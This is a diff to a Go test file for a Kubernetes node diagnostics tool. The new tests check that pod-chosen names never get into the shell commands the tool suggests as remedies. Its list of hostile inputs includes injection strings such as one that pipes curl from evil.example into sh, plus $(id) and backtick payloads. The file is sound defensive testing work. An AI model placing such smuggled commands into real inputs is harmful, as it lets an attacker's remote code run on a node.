@@ -13,6 +13,7 @@ import (
 
 	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
 	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause"
+	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause/kernel"
 	"github.com/nodeagent-io/nodeagent/pkg/evidence"
 )
 
@@ -178,6 +179,7 @@ func TestValues(t *testing.T) {
 		"child": "child", "childpid": "9", "foreground": "sleep", "foregroundpid": "10",
 		"tracer": "gdb (PID 11, of container tools)", "tracerpid": "11", "member": "sh", "memberpid": "12", "memberstate": "S",
 		"parent": "nsenter (PID 13, of pod shop/debug)", "parentpid": "13",
+		"hostmount": "/var/data", "mountnumber": "0:50",
 		"mountpoint": "/var/data", "point": "/data", "fstype": "nfs4", "protocol": "NFS", "source": "192.0.2.1:/export", "server": "192.0.2.1",
 		"volume": "data", "connection": "50", "silence": "requests without an answer, the server acknowledges nothing",
 		"details": "on the node /var/data, source 192.0.2.1:/export, volume data, requests without an answer, " +
@@ -312,10 +314,62 @@ func TestWordings(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			i := slices.IndexFunc(cause.All(), func(r *diagnose.Rule) bool { return r.Cause == tc.cause })
-			message, remedy := cause.All()[i].Doc.Words(&tc.f)
+			message, remedy, _ := cause.All()[i].Doc.Words(&tc.f)
 			if !strings.Contains(message, tc.says[0]) || !strings.Contains(remedy, tc.says[1]) {
 				t.Errorf("message: %s\nremedy: %s\nwant: %q", message, remedy, tc.says)
 			}
 		})
+	}
+}
+
+// No name that a pod chose gets into a command: a shell would take it for one.
+func TestNothingForeignInCommands(t *testing.T) {
+	hostile := []string{
+		"/data;curl -s evil.example|sh;#", "/data$(id)", "/data`id`", "/data\nid", "/da ta", "/data'", `/data"`, "/data&", "/data>x", "/data*", "/data?x", "/data{a,b}",
+		"/data\\x", "-rf", "/data/../..", "/data\u202e", "/dat\u00e4", "~root", "!x", "#x", "/" + strings.Repeat("x", 400),
+	}
+	for _, name := range hostile {
+		m := &diagnose.Mount{Device: "7:1", Point: name, HostPoint: name, Source: name, Server: name, Volume: name, Type: "ext4"}
+		process := &diagnose.Process{PID: 7, Comm: name, Program: name}
+		f := diagnose.Finding{Container: name, Objects: diagnose.Objects{
+			Process: process, Child: process, Foreground: process, Tracer: process, Member: process, Parent: process,
+			Thread: &diagnose.Thread{TID: 7, Comm: name, Function: name}, Mount: m, Device: name, Cgroup: name, ContainerID: name, CorePattern: name,
+			Deadline: requested, Since: requested, Ended: requested, GraceSeconds: 30, Signal: "SIGTERM", Handled: "SIGINT", Finalizers: []string{name},
+		}}
+		for _, r := range cause.All() {
+			for _, family := range append(r.Doc.Families, diagnose.Family{}) {
+				for _, variants := range [][]string{nil, {"Paused"}, {diagnose.Stopped}} {
+					f.Family, f.Variants = family.Name, variants
+					_, remedy, danger := r.Doc.Words(&f)
+					for _, text := range []string{remedy, danger} {
+						for _, command := range commands.FindAllString(text, -1) {
+							if strings.Contains(command, name) || strings.Contains(command, name[:min(len(name), 20)]) {
+								t.Errorf("%s %s: %q", r.Cause, family.Name, command)
+							}
+						}
+					}
+				}
+			}
+		}
+	}
+}
+
+// commands finds what a person would paste: from a program's name to the end of what
+// it is called with.
+var commands = regexp.MustCompile(`\b(fsfreeze|echo|umount|kill|ctr|ps|systemctl|dmsetup|findmnt|nodeagent) [^.;:,]*.{0,60}`)
+
+// Names that are only names do stand there.
+func TestCommands(t *testing.T) {
+	f := diagnose.Finding{Family: "FsFrozen", Objects: diagnose.Objects{
+		Process: &diagnose.Process{PID: 7}, Thread: &diagnose.Thread{TID: 7},
+		Mount: &diagnose.Mount{Device: "7:1", Point: "/data", HostPoint: "/var/lib/kubelet/pods/0b4d/volumes/kubernetes.io~csi/pvc-1/mount"},
+	}}
+	remedy := func() string { _, remedy, _ := kernel.UninterruptibleSleep.Doc.Words(&f); return remedy }
+	if text := remedy(); !strings.Contains(text, "fsfreeze -u "+f.Objects.Mount.HostPoint+";") {
+		t.Errorf("no command: %s", text)
+	}
+	f.Objects.Mount.HostPoint = ""
+	if text := remedy(); !strings.Contains(text, "the number 7:1") || strings.Contains(text, "/data") {
+		t.Errorf("the path of the container is for nobody: %s", text)
 	}
 }
